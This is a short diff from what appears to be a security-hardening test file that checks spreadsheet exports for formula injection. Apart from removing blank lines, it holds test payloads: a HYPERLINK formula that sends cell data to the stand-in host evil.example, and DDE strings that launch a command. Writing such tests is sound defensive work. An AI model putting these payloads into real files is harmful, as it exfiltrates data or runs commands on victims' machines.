@@ -16,8 +16,6 @@ from tests.project.hardening_helpers import admin_client, close, download
 # --- formulas in every export ----------------------------------------------------------------------------
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")'
-
-
 EVIL_TEXTS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]
 
 
